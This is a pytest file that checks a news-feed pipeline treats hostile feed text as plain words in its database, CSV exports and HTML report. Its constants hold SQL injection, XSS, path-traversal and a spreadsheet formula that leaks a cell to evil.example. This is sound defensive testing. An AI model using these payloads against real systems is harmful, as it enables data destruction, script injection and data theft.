"""Feeds whose words want to be commands, through a whole run: to the database, a spreadsheet, a browser or a disk."""

from __future__ import annotations

import csv
import html
import json
import random
import re
import threading
from collections.abc import Iterable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import duckdb
import pytest
from dataset_factory import DIMENSIONS, TEXT, make_mention
from report_factory import data_of

from transforms.coding.version import CODER_VERSION
from transforms.records import Article, Coded

pytestmark = pytest.mark.usefixtures("prefect")

SQL = "'; DROP TABLE article; --"
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bridge talks")'
PATH = "../" * 20 + "escape\x00" + "n" * 5000
FORMULA_CELL = re.compile(r"[=+\-@\t\r\n]")
NUMBER = re.compile(r"-?[0-9.]+(e[-+]?[0-9]+)?")


def make_filler(seed: int) -> str:
    """Make a text so long that no two articles with one each are near copies."""
    words = TEXT.split() * 8
    random.Random(seed).shuffle(words)
    return " ".join(words)


def make_feed(words: str, number: int) -> bytes:
    """Make a feed that says these words wherever it can: in its own title, and in every field of its items."""
    shown = html.escape(words).replace("\x00", "&#0;")
    cdata = words.replace("\x00", "")
    item = (
        f"<item><guid>{shown}{{0}}</guid><title>{shown}</title><link>http://news.example/{number}/{{0}}?{shown}</link>"
        f"<author>{shown}</author><category>{shown}</category><dc:creator>{shown}</dc:creator>"
        f"<pubDate>Fri, 14 Jun 2024 18:0{{0}}:00 GMT</pubDate><description>{{1}}</description></item>"
    )
    first, second = (f"<p>{TEXT}</p><p>{make_filler(2 * number + n)}</p>" for n in range(2))
    items = item.format(1, f"{html.escape(first)} {shown}") + item.format(2, f"<![CDATA[{cdata} {second}]]>")
    start = '<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>'
    return f"{start}<title>{shown}</title><description>{shown}</description>{items}</channel></rss>".encode()


FEEDS = {f"feed-{n}": make_feed(words, n) for n, words in enumerate((SQL, SCRIPT, FORMULA, PATH))}
TITLES = {"feed-0": SQL, "feed-1": SCRIPT, "feed-2": FORMULA, "feed-3": "../../escape"}


class Coder:
    """Finds the raid of `TEXT` in every article."""

    def code(self, articles: Iterable[Article]) -> Iterator[Coded]:
        for article in articles:
            yield Coded(
                article.article_id, article.revision_id, (make_mention(article, coder_version=CODER_VERSION),), (), None
            )


class Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = FEEDS[self.path.rsplit("/", 1)[-1]]
        self.send_response(200)
        self.send_header("ETag", FORMULA)
        self.send_header("Last-Modified", SQL)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def place(tmp_path: Path, fake_coder: list[int], monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A folder in which the four feeds were collected, with reports and exports made."""
    from flows.nightly import nightly

    place = tmp_path / "a" / "b"
    place.mkdir(parents=True)
    monkeypatch.chdir(place)
    monkeypatch.setenv("WIREROOM_HOST_PAUSE_SECONDS", "0")
    monkeypatch.setattr("flows.worker.load_coder", lambda _pipeline: Coder())
    monkeypatch.setattr("flows.nightly.dimension_rows", lambda _ontology: DIMENSIONS)
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True).start()
    tables = [
        f'[[source]]\nid = "{name}"\nurl = "http://127.0.0.1:{server.server_port}/{name}"\nallow_private = true\n'
        f"title = {json.dumps(title)}\n"
        for name, title in TITLES.items()
    ]
    Path("sources.toml").write_text('[settings]\nexports = ["csv"]\n\n' + "\n".join(tables), "utf-8")
    report = nightly()
    server.shutdown()
    server.server_close()
    assert (report.counts.collected, report.counts.rejected) == (8, 0)
    yield place
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a"]
    assert sorted(path.name for path in place.iterdir()) == ["data", "sources.toml"]
    assert not [path for path in place.rglob("*") if "escape" in path.name or "DROP" in path.name]


def rows(query: str) -> list[tuple[Any, ...]]:
    with duckdb.connect("data/wireroom.duckdb", read_only=True) as connection:
        return connection.execute(query).fetchall()


def test_words_stay_words_everywhere(place: Path) -> None:
    # In the dataset, as they were written.
    assert rows("SELECT count(*) FROM article") == [(8,)]
    titles = dict(rows("SELECT DISTINCT source_id, title FROM article"))
    assert [titles[f"feed-{n}"] for n in range(3)] == [SQL, SCRIPT, FORMULA]
    assert (titles["feed-3"] or "").startswith("../../")
    assert dict(rows("SELECT source_id, title FROM source")) == TITLES
    assert rows("SELECT count(DISTINCT title) FROM mart_event") == [(4,)]

    # In a spreadsheet.
    found = []
    for path in Path("data/exports/csv").glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as stream:
            found += [cell for row in csv.reader(stream) for cell in row]
    assert f"'{FORMULA}" in found
    assert SQL in found
    assert not [cell for cell in found if FORMULA_CELL.match(cell) and not NUMBER.fullmatch(cell)]

    # In a browser: all that comes from feeds travels packed, and the page puts it into text only.
    page = Path("data/report.html").read_text("utf-8")
    markup = re.sub(r'(?s)<script type="application/gzip".*?</script>', "", page)
    assert not [words for words in ("alert(1)", "DROP TABLE", "HYPERLINK") if words in markup]
    assert markup.count("<script") == 1
    assert SQL in json.dumps(data_of(page))
